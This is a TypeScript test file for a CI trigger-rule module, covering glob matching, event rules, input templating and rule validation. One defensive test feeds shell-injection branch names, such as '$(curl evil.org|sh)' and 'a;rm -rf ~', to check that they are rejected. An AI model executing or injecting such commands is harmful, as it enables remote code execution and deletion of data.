import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { RepositoryEvent } from '../event.ts'
import { fits } from './glob.ts'
import { applies, filled, mistakesIn, rulesSchema } from './rule.ts'

const commit = '1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b'
const push: RepositoryEvent = { kind: 'push', commit, branch: 'main', paths: ['mlops/train/pipeline.yml'] }
const tag: RepositoryEvent = { kind: 'tag', commit, tag: 'v1.2' }
const proposal: RepositoryEvent = {
  kind: 'pull_request',
  commit,
  branch: 'main',
  pullRequest: { number: 7, from: 'faster', isFork: false },
}

describe('patterns', () => {
  for (const [name, patterns, expected] of [
    ['main', ['main'], true],
    ['maint', ['main'], false],
    ['feature/a/b', ['feature/*'], false],
    ['feature/a/b', ['feature/**'], true],
    ['v1.2', ['v?.*'], true],
    ['src/deep/er/x.py', ['**/*.py'], true],
    ['x.py', ['**/*.py'], true],
    ['docs/x.md', ['**', '!docs/**'], false],
    ['src/x.py', ['!docs/**'], true],
    ['docs/x.md', ['!docs/**'], false],
    ['a+b(c)', ['a+b(c)'], true],
    ['main', [], false],
  ] as const)
    test(`${name} ${expected ? 'fits' : 'does not fit'} ${patterns.join(', ') || 'none'}`, () =>
      assert.equal(fits(name, patterns), expected))
})

describe('a rule is about', () => {
  const [about] = [
    (rule: object, event: RepositoryEvent) =>
      applies(rulesSchema.parse([{ component: 'azureml:train', ...rule }])[0] ?? assert.fail(), event),
  ]
  for (const [what, rule, event, expected] of [
    ['pushes', { on: 'push' }, push, true],
    ['pushes, not tags', { on: 'push' }, tag, false],
    ['pushes to a branch', { on: 'push', branches: ['main'] }, push, true],
    ['pushes to another branch', { on: 'push', branches: ['dev'] }, push, false],
    ['changes of these files', { on: 'push', paths: ['mlops/**'] }, push, true],
    ['changes of other files', { on: 'push', paths: ['docs/**'] }, push, false],
    [
      'changes that nobody tells',
      { on: 'push', paths: ['docs/**'] },
      { ...push, paths: undefined } as never,
      true,
    ],
    ['tags that look so', { on: 'tag', tags: ['v*'] }, tag, true],
    ['tags that look otherwise', { on: 'tag', tags: ['model-*'] }, tag, false],
    ['pull requests into a branch', { on: 'pull_request', branches: ['main'] }, proposal, true],
    [
      'pull requests of forks, not unless it says so',
      { on: 'pull_request' },
      { ...proposal, pullRequest: { number: 7, from: 'x', isFork: true } },
      false,
    ],
    [
      'pull requests of forks, if it says so',
      { on: 'pull_request', forks: true },
      { ...proposal, pullRequest: { number: 7, from: 'x', isFork: true } },
      true,
    ],
  ] as const)
    test(what, () => assert.equal(about?.(rule, event), expected))
})

test('what an event says is put into inputs', () => {
  const repository = 'https://github.com/acme/flights'
  assert.equal(filled('${{event.commit}} of ${{ event.branch }}', push, repository), `${commit} of main`)
  assert.equal(filled('${{event.tag}}', tag, repository), 'v1.2')
  assert.equal(filled('${{event.pull_request}}', proposal, repository), '7')
  assert.throws(() => filled('${{event.tag}}', push, repository), /a push has no tag/)
})

test('what a shell would understand is given to no job', () => {
  for (const branch of ['$(curl evil.org|sh)', 'a;rm -rf ~', '`id`', "a'b", 'a b', 'a\nb', 'a&b'])
    assert.throws(
      () => filled('${{event.branch}}', { ...push, branch }, 'https://github.com/acme/flights'),
      /has characters that are not given to jobs/,
      branch,
    )
})

describe('mistakes in rules', () => {
  for (const [rule, expected] of [
    [{ on: 'push' }, 'starts nothing: give one of component, job and release'],
    [
      { on: 'push', component: 'a', job: 'b' },
      'starts component and job: give one of component, job and release',
    ],
    [{ on: 'psuh', component: 'a' }, 'is not one of push, tag, pull_request'],
    [
      { on: 'push', component: 'a', branchs: ['main'] },
      'branchs is not a field of a rule (did you mean branches?)',
    ],
    [
      { on: 'tag', component: 'a', branches: ['main'] },
      'is of pushes and pull requests; a tag is on no branch',
    ],
    [{ on: 'push', component: 'a', tags: ['v*'] }, 'is of events that are on: tag'],
    [{ on: 'tag', release: 'plan', inputs: { a: '1' } }, 'is of jobs, and the rule starts a release'],
    [{ on: 'push', component: 'a', version: '1' }, 'is of releases, and the rule starts a job'],
    [
      { on: 'push', component: 'a', inputs: { c: '${{event.comit}}' } },
      'which is none of commit, branch, tag',
    ],
    [{ on: 'push', component: 'a', forks: true }, 'is of pull requests'],
  ] as const)
    test(expected, () => {
      const said = mistakesIn([rule]).map(
        ({ message, hint }) => `${message}${hint === undefined ? '' : ` (${hint})`}`,
      )
      assert.ok(
        said.some((text) => text.includes(expected)),
        said.join('\n'),
      )
    })
})
